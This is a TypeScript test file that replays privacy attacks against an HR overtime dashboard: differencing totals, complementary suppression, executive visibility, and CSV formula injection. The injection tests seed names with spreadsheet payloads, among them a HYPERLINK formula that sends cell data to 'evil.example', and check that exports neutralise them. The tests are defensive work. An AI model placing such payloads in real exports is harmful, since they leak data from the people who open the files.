import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from '../../core/db/sql.ts';
import type { TestApp } from '../harness/app.ts';
import { idOf, shown, type tabClient, truth } from './attack-client.ts';
import { CHIEF, type FindingsIds, HR, STAFF, startFindingsApp, WLB } from './findings-app.ts';
import { FIXTURE_MONTH, type PrivacyPersonas, recompute } from './privacy-fixtures.ts';

const FLOOR = 5;

/** A residual of people the viewer cannot see individually: 0 is fine, 1..floor-1 is a leak. */
const leaks = (residualPeople: number) => residualPeople > 0 && residualPeople < FLOOR;

/**
 * The privacy findings of the review (issue 12) that concern the tab, each replayed as the attacker
 * did it, with a valid token, against the whole app: differencing, complementary suppression, what
 * executives see, and CSV exports. Each test scores what the replies reveal against the truth in
 * the database: a total that, minus what else the viewer is shown, isolates fewer than `FLOOR`
 * people (or a person outside the viewer's subtree) is a leak. The bot's findings:
 * findings.bot.test.ts.
 */

describe('privacy findings replayed against the app: the tab', () => {
  let t: TestApp;
  let get: ReturnType<typeof tabClient>;
  let personas: PrivacyPersonas;
  const ids: FindingsIds = { johoSeisaku: '', b03: '', b05: '', b06: '', alertId: 0 };

  beforeAll(async () => {
    ({ t, get, personas } = await startFindingsApp(ids));
  }, 120_000);
  afterAll(() => t?.stop());

  describe('1. manager differencing: section total − the people he may see', () => {
    it('the chief never gets the section total when it isolates people outside his subtree (page, series, export)', async () => {
      const truthNow = await truth(t.db, 'section', ids.johoSeisaku, FIXTURE_MONTH);
      const page = await get(CHIEF, `/dashboard/sections/${ids.johoSeisaku}?month=${FIXTURE_MONTH}`);
      expect(page.status).toBe(200);
      const people = (page.json?.people ?? []) as { employeeNo: string; minutes: number | null }[];
      // He does see his own people, with their hours.
      expect(people.map((p) => p.employeeNo)).toContain(STAFF);
      const total = page.json?.total as { thisMonth: { totalHours: number } | null };
      const residual = truthNow.staff - people.filter((p) => p.minutes !== null).length;
      expect(residual).toBeGreaterThan(0); // the director-general sits in this section
      if (leaks(residual)) expect(shown(total.thisMonth?.totalHours)).toBeNull();
      // The same total per month (trend) and in the month series route.
      const trend = (page.json?.trend ?? []) as { month: string; totalHours: number | null }[];
      for (const p of trend)
        expect({ month: p.month, total: p.totalHours }).toEqual({ month: p.month, total: null });
      const series = await get(
        CHIEF,
        `/overtime/sections/${ids.johoSeisaku}/months?from=2026-05&to=${FIXTURE_MONTH}`,
      );
      if (series.status === 200)
        for (const m of (series.json?.months ?? []) as { totalHours: unknown; atLeast100h: unknown }[]) {
          expect(shown(m.totalHours)).toBeNull();
          expect(shown(m.atLeast100h)).toBeNull();
        }
      // The manager's overview and the section list route show the same section as a row.
      const overview = await get(CHIEF, `/dashboard?month=${FIXTURE_MONTH}`);
      const row = (
        (overview.json?.rows ?? []) as { id: string; thisMonth: { totalHours: number | null } | null }[]
      ).find((r) => r.id === ids.johoSeisaku);
      expect(row?.thisMonth?.totalHours ?? null).toBeNull();
      expect(
        shown((overview.json?.total as { thisMonth?: { totalHours?: number } })?.thisMonth?.totalHours),
      ).toBeNull();
      const list = await get(CHIEF, `/overtime/sections?month=${FIXTURE_MONTH}`);
      if (list.status === 200)
        for (const s of (list.json?.sections ?? []) as { totalHours: unknown }[])
          expect(shown(s.totalHours)).toBeNull();
      const csv = await get(
        CHIEF,
        `/dashboard/export?view=section&id=${ids.johoSeisaku}&month=${FIXTURE_MONTH}`,
      );
      expect(csv.text).not.toContain(String(Math.round(truthNow.minutes / 6) / 10));
    });

    it('instead he gets the total of his own people, which he could add up anyway', async () => {
      const page = await get(CHIEF, `/dashboard/sections/${ids.johoSeisaku}?month=${FIXTURE_MONTH}`);
      const mine = page.json?.mine as { staff: number; totalHours: number } | null;
      const people = (page.json?.people ?? []) as { minutes: number | null }[];
      const sum = people.reduce((n, p) => n + (p.minutes ?? 0), 0);
      expect(mine).toMatchObject({ staff: people.length, totalHours: Math.round(sum / 6) / 10 });
      // His section's non-managerial people are all his: their figures stay. Its managers are him and
      // the director-general, so the all-staff total would give the director-general away.
      const total = page.json?.total as { hidden: string | null; allStaffHidden: string | null } | undefined;
      expect(total?.allStaffHidden).not.toBeNull();
    });
  });

  describe('2. complementary suppression: bureau total − the sections shown', () => {
    /** Sections of a bureau whose figures the viewer reads off the replies, and the bureau total. */
    async function attack(viewer: string, bureauId: string) {
      const bureau = await truth(t.db, 'bureau', bureauId, FIXTURE_MONTH);
      const sections = await t.db.query<{ id: string }>(
        sql`select id::text as id from section where bureau_id = ${bureauId}`,
      );
      const known = new Map<string, number>();
      // Every route that shows a section's figure: the dashboard table, the overtime list, its own page.
      const dash = await get(viewer, `/dashboard/bureaus/${bureauId}?month=${FIXTURE_MONTH}`);
      for (const r of (dash.json?.rows ?? []) as { id: string; thisMonth: { totalHours: number } | null }[]) {
        const v = shown(r.thisMonth?.totalHours);
        if (v !== null) known.set(r.id, v);
      }
      const list = await get(viewer, `/overtime/bureaus/${bureauId}/sections?month=${FIXTURE_MONTH}`);
      for (const r of (list.json?.sections ?? []) as { id: string; totalHours: unknown }[]) {
        const v = shown(r.totalHours);
        if (v !== null) known.set(r.id, v);
      }
      for (const s of sections) {
        const own = await get(viewer, `/dashboard/sections/${s.id}?month=${FIXTURE_MONTH}`);
        const v = shown(
          (own.json?.total as { thisMonth?: { totalHours?: number } } | undefined)?.thisMonth?.totalHours,
        );
        if (v !== null) known.set(s.id, v);
      }
      const totalShown =
        shown(
          (dash.json?.total as { thisMonth?: { totalHours?: number } } | undefined)?.thisMonth?.totalHours,
        ) !== null;
      let hiddenStaff = 0;
      for (const s of sections)
        if (!known.has(s.id)) hiddenStaff += (await truth(t.db, 'section', s.id, FIXTURE_MONTH)).staff;
      return {
        totalShown,
        hiddenStaff,
        bureauStaff: bureau.staff,
        hiddenCount: sections.length - known.size,
      };
    }

    it('one small room in a bureau: its complement stays hidden on every route and its own page', async () => {
      for (const viewer of [HR, personas.execOnlyB05]) {
        const r = await attack(viewer, ids.b05);
        // (With three managers, 消防庁's all-staff total is itself hidden for these viewers.)
        if (r.totalShown) expect(r.hiddenCount).not.toBe(1);
        expect({ viewer, leak: r.totalShown && leaks(r.hiddenStaff) }).toEqual({ viewer, leak: false });
      }
    });

    it('two small rooms whose sum is still under the floor: a third cell is hidden too', async () => {
      for (const viewer of [HR, personas.execOnlyB05]) {
        const r = await attack(viewer, ids.b06);
        expect({ viewer, hiddenStaff: r.hiddenStaff, leak: leaks(r.hiddenStaff) }).toMatchObject({
          leak: false,
        });
      }
    });

    it('childcare take-up: total births − the bureaus shown never isolates a small bureau (floor from 設定)', async () => {
      // Births in FY2026 reported for men of three bureaus: 2 (B05), 9 (B06), 7 (B07).
      for (const [code, n] of [
        ['B05', 2],
        ['B06', 9],
        ['B07', 7],
      ] as const)
        await t.db.query(sql`
          insert into childcare_case (employee_id, status, source, reported_on, birth_date)
          select e.id, 'started', 'report', '2026-06-01', '2026-06-01'
            from employee e join section s on s.id = e.section_id join bureau b on b.id = s.bureau_id
           where b.code = ${code} and e.active order by e.employee_no limit ${n}`);
      for (const viewer of [HR, personas.execOnlyB05]) {
        const res = await get(viewer, '/childcare/take-up?fiscalYear=2026');
        expect(res.status).toBe(200);
        const bureaus = res.json?.bureaus as { births: number | string; bureau: { name: string } }[];
        const total = (res.json?.total as { births: number | string } | undefined)?.births;
        if (typeof total !== 'number') continue;
        const hidden = total - bureaus.reduce((n, b) => n + (typeof b.births === 'number' ? b.births : 0), 0);
        expect({ viewer, leak: leaks(hidden) }).toEqual({ viewer, leak: false });
        expect(bureaus.filter((b) => typeof b.births === 'string').length).not.toBe(1);
      }
      // The floor is the 設定 value: raise it and the 7 births of B07 are hidden too.
      const token = await t.signSsoToken(await t.oidOf(HR));
      const put = (minGroupSize: number) =>
        fetch(`${t.baseUrl}/api/tab/settings/privacy`, {
          method: 'PUT',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify({ value: { minGroupSize } }),
        });
      expect((await put(8)).status).toBe(200);
      try {
        const res = await get(HR, '/childcare/take-up?fiscalYear=2026');
        const b07 = ((res.json?.bureaus ?? []) as { births: unknown; bureau: { name: string } }[]).find(
          (b) => b.bureau.name === '近畿総合通信局',
        );
        expect(b07?.births).toBe('<8');
      } finally {
        await put(FLOOR);
      }
    });

    it('figures of a newer import are never cut by the sizes of the old data (another instance imported)', async () => {
      const b04 = await idOf(t.db, sql`select id::text as id from bureau where code = 'B04'`);
      type Row = { name: string; hidden: string | null; thisMonth: unknown };
      const row = async () => {
        const page = await get(HR, `/dashboard/bureaus/${b04}?month=${FIXTURE_MONTH}`);
        return ((page.json?.rows ?? []) as Row[]).find((r) => r.name === '小規模5人室');
      };
      expect((await row())?.hidden).toBeNull(); // 5 people: shown, and its sizes are now cached
      // Another instance imports a month in which one of the five has no data: 4 people left.
      await t.db.query(sql`update employee set active = false where employee_no = 'S-FLOOR-5-4'`);
      await t.db.query(sql`
        delete from overtime_month where month = ${`${FIXTURE_MONTH}-01`}::date
           and employee_id = (select id from employee where employee_no = 'S-FLOOR-5-4')`);
      await recompute(t.db);
      await t.db.query(sql`insert into attendance_import (source, row_count) values ('api', 1)`);
      expect(await row()).toMatchObject({ hidden: 'small_group', thisMonth: null });
    });

    it('cells hidden in the table say why (small group or complement)', async () => {
      const dash = await get(HR, `/dashboard/bureaus/${ids.b05}?month=${FIXTURE_MONTH}`);
      const reasons = ((dash.json?.rows ?? []) as { hidden: string | null }[])
        .map((r) => r.hidden)
        .filter(Boolean);
      expect(reasons.sort()).toEqual(['complementary', 'small_group']);
    });
  });

  describe('3. executives see aggregates, not individuals', () => {
    it('an executive who manages nobody gets no named alert; the bureau’s WLB officer gets the 100 h ones', async () => {
      const exec = await get(personas.execOnlyB03, '/overtime/alerts?open=0');
      const named = JSON.stringify(exec.json ?? {});
      expect(named).not.toContain('中村');
      expect(named).not.toContain('6300');
      const wlb = await get(WLB, '/overtime/alerts?open=0');
      const alerts = (wlb.json?.alerts ?? []) as { level: string; employeeName: string }[];
      expect(alerts.some((a) => a.employeeName === '中村 健太' && a.level === 'month100')).toBe(true);
      expect(alerts.every((a) => a.level === 'month100')).toBe(true);
      // The chief, who manages the subject, still gets it.
      const chief = await get(CHIEF, '/overtime/alerts?open=0');
      expect(JSON.stringify(chief.json)).toContain('中村');
    });

    it('an executive who manages nobody sees no people on any section page', async () => {
      const page = await get(
        personas.execOnlyB03,
        `/dashboard/sections/${ids.johoSeisaku}?month=${FIXTURE_MONTH}`,
      );
      expect(page.status).toBe(200);
      // Only their own row, if they sit in the section themself.
      const people = (page.json?.people ?? []) as { employeeNo: string }[];
      expect(people.filter((p) => p.employeeNo !== personas.execOnlyB03)).toEqual([]);
      expect(page.text).not.toContain('中村');
    });

    it('an executive who manages nobody gets no names and no counts of people on the risk page', async () => {
      // The running month ("today" is 2026-11-05): the chief's section far over the pace.
      await t.db.query(sql`
        insert into overtime_month (employee_id, month, section_id, is_managerial, overtime_minutes, days_recorded, last_work_date)
        select e.id, date '2026-11-01', e.section_id, e.is_managerial, 1200, 2, date '2026-11-04'
          from employee e where e.section_id = ${ids.johoSeisaku}::uuid and e.active
        on conflict (employee_id, month) do nothing`);
      try {
        const chief = await get(CHIEF, '/dashboard/risk');
        expect(((chief.json?.people ?? []) as unknown[]).length).toBeGreaterThan(0);
        const exec = await get(personas.execOnlyB03, '/dashboard/risk');
        expect(exec.status).toBe(200);
        expect(exec.json?.people).toEqual([]);
        expect(exec.json?.atRiskTotal).toBe(0);
        expect(exec.json?.peopleWithData).toBe(0);
        expect(exec.json?.openAlerts).toEqual([]);
        expect(exec.text).not.toContain('中村');
      } finally {
        await t.db.query(sql`delete from overtime_month where month = date '2026-11-01'`);
      }
    });
  });

  describe('6. CSV formula injection', () => {
    const evil = ['=HYPERLINK("http://evil.example/"&A1,"x")', '+SUM(1)', '-2+3', '@cmd', '\tTAB', '\rCR'];

    beforeAll(async () => {
      // Names as a compromised upstream register could hold them (the import now refuses them).
      const staff = await t.db.query<{ id: string }>(sql`
        select id from employee where section_id = ${ids.johoSeisaku} and employee_no like 'E%' order by employee_no limit 6`);
      for (const [i, s] of staff.entries())
        await t.db.query(sql`update employee set family_name = ${evil[i] ?? ''} where id = ${s.id}`);
    });

    /** Cells as Excel sees them: no cell may start with a formula trigger. */
    const triggers = (csv: string) =>
      csv
        .replace(/^\uFEFF/, '')
        .split('\r\n')
        .flatMap((line) => line.split(','))
        .map((c) => c.replace(/^"/, ''))
        .filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));

    it('the leave section table CSV neutralises every leading trigger', async () => {
      const [campaign] = await t.db.query<{ id: string }>(
        sql`select id::text as id from leave_campaign limit 1`,
      );
      const res = await get(
        CHIEF,
        `/leave/campaigns/${campaign?.id}/sections/${ids.johoSeisaku}/export?format=csv`,
      );
      expect(res.status).toBe(200);
      expect(res.text).toContain('HYPERLINK');
      expect(triggers(res.text)).toEqual([]);
    });

    it('the announcement delivery CSV neutralises every leading trigger', async () => {
      const [hr] = await t.db.query<{ id: string }>(sql`select id from employee where employee_no = ${HR}`);
      const [a] = await t.db.query<{ id: string }>(sql`
        insert into announcement (title, body, audience, created_by, state)
        values ('周知', '本文', '{"everyone": true}', ${hr?.id}, 'sent') returning id::text as id`);
      await t.db.query(sql`
        insert into delivery (purpose, subject, recipient, state)
        select 'announcement', ${a?.id}, id::text, 'sent' from employee where section_id = ${ids.johoSeisaku}`);
      const res = await get(HR, `/announcements/${a?.id}/export.csv`);
      expect(res.status).toBe(200);
      expect(res.text).toContain('HYPERLINK');
      expect(triggers(res.text)).toEqual([]);
    });

    it('the org import refuses names a spreadsheet would run, with their line, and stores nothing', async () => {
      const csv =
        '職員番号,姓,名,局コード,局名,局区分,課コード,課名\n' +
        'X1,山田,太郎,B01,大臣官房,本省内部部局,B01-001,人事課\n' +
        'X2,"=HYPERLINK(""http://evil.example"")",花子,B01,大臣官房,本省内部部局,B01-001,人事課\n' +
        'X3,鈴木,@SUM(1),B01,大臣官房,本省内部部局,B01-001,+人事課\n';
      const token = await t.signSsoToken(await t.oidOf(HR));
      const res = await fetch(`${t.baseUrl}/api/tab/import/org/preview`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ fileName: 'org.csv', contentBase64: Buffer.from(csv).toString('base64') }),
      });
      const body = JSON.stringify(await res.json());
      for (const where of [
        'line 3, column family_name',
        'line 4, column given_name',
        'line 4, column section_name',
      ])
        expect(body).toContain(where);
      expect(body).toContain('数式');
      const [x] = await t.db.query(sql`select 1 from employee where employee_no in ('X1', 'X2', 'X3')`);
      expect(x).toBeUndefined();
    });

    it('the dashboard CSV (people of the chief) neutralises them too', async () => {
      const res = await get(
        CHIEF,
        `/dashboard/export?view=section&id=${ids.johoSeisaku}&month=${FIXTURE_MONTH}`,
      );
      expect(res.text).toContain('HYPERLINK');
      expect(triggers(res.text)).toEqual([]);
    });
  });
});
